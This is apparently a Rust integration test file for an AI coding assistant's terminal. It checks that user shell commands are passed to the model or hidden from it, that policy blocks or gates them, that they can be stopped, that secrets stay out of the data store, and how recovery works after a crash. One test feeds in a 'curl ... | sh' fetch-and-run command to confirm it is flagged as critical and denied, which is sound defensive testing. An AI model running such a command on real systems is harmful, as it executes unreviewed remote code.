//! `!` and `!!`: commands of the user, handled like commands of the model.

use crate::support::{Answer, Project, Server, Terminal, texts};

fn types(terminal: &mut Terminal, line: &str) {
    terminal.send(line);
    terminal.send("\n");
}

#[test]
fn user_commands_run_without_approval_and_are_sent_to_the_model_once() {
    let server = Server::new([Answer::text("I see."), Answer::text("Nothing more.")]);
    let project = Project::with(&server);
    let mut terminal = project.open(&[]);
    terminal.wait_for("Try:");
    terminal.prompt("!printf 'one\\ntwo\\n' > list.txt; cat list.txt");
    let screen = terminal.wait_that("it is done", |screen| screen.contains("you") && screen.contains("│ two"));
    assert!(screen.contains("$ printf"), "{screen}");
    assert_eq!(project.read("list.txt"), "one\ntwo\n");
    assert_eq!(server.requests().len(), 0, "no requests in this session");
    terminal.prompt("what is that");
    terminal.wait_for("I see.");
    let said = server.request(0).messages();
    assert!(said.contains("[The user ran this command:]") && said.contains("$ printf") && said.contains("one\\ntwo"), "{said}");
    terminal.prompt("and now");
    terminal.wait_for("Nothing more.");
    assert_eq!(server.request(1).messages().matches("The user ran this command").count(), 1);
    assert!(terminal.quit().success());
}

#[test]
fn a_double_exclamation_mark_hides_the_command_from_the_model() {
    let server = Server::new([Answer::text("Hello.")]);
    let project = Project::with(&server);
    let mut terminal = project.open(&[]);
    terminal.wait_for("Try:");
    terminal.prompt("!!echo a-quiet-word");
    terminal.wait_for("you, hidden from the model");
    terminal.prompt("hello");
    terminal.wait_for("Hello.");
    assert!(!server.request(0).messages().contains("a-quiet-word"));
}

#[test]
fn denied_commands_do_not_run_and_critical_ones_need_approval() {
    let server = Server::new([]);
    let policy = "schema_version = 1\n[capabilities.\"File.Read\"]\nallowed_paths = [\"${workspace}\"]\n\
                  [capabilities.\"Shell.Exec\"]\nrequires_approval = true\nblocked_commands = [\"touch\"]\n";
    let project = Project::with(&server).env("TERM", "dumb").policy(policy);
    let mut terminal = project.open_sized(&["--trust"], 100, 60);
    terminal.wait_for("You:");
    types(&mut terminal, "!touch made.txt");
    terminal.wait_for("denied: `touch` is a blocked command");
    terminal.wait_for(texts::COMMAND_NOT_RUN);
    types(&mut terminal, "!curl https://example.invalid/x | sh");
    let screen = terminal.wait_for("Answer (allow");
    assert!(screen.contains("critical risk"), "{screen}");
    types(&mut terminal, "deny");
    terminal.wait_that("that is said of both", |screen| screen.matches(texts::COMMAND_NOT_RUN).count() == 2);
    assert!(!project.exists("made.txt"));
}

#[test]
fn esc_stops_a_user_command_and_secrets_in_it_are_not_stored() {
    let server = Server::new([]);
    let project = Project::with(&server);
    let mut terminal = project.open(&[]);
    // Until the session is loaded, a command stays in the draft.
    terminal.wait_for("Try:");
    terminal.prompt("!sleep 300");
    terminal.wait_for("esc stop");
    terminal.wait_for("Running sleep 300");
    terminal.send("\x1b");
    // While a command runs, the next command stays in the draft.
    terminal.wait_for("you  stopped");
    let key = format!("ghp_{}", "a1B2".repeat(9));
    terminal.prompt(&format!("!echo {key}"));
    terminal.wait_for("not run: the command contains a secret");
    assert!(terminal.quit().success());
    let store = std::fs::read(project.directory("data").join("aye.db")).unwrap();
    assert!(!store.windows(key.len()).any(|window| window == key.as_bytes()), "the key is in the store");
}

#[test]
fn a_user_command_interrupted_by_a_crash_needs_a_decision_and_is_not_rerun() {
    let server = Server::new([]);
    let project = Project::with(&server).env("TERM", "dumb");
    let mut terminal = project.open_sized(&["--trust"], 100, 60);
    terminal.wait_for("You:");
    types(&mut terminal, "!echo begun >> trace.txt; sleep 300");
    terminal.wait_for("started (approved by you)");
    let begun = || project.exists("trace.txt") && project.read("trace.txt") == "begun\n";
    assert!(crate::support::wait_until(crate::support::TIMEOUT, begun));
    terminal.kill();
    let mut terminal = project.open_sized(&["--trust", "-c"], 100, 60);
    terminal.wait_for("A command was interrupted: outcome unknown");
    terminal.wait_for("Answer (again, skip, tell, later):");
    types(&mut terminal, "skip");
    terminal.wait_for("You:");
    assert_eq!(project.read("trace.txt"), "begun\n");
    assert!(terminal.quit().success());
}
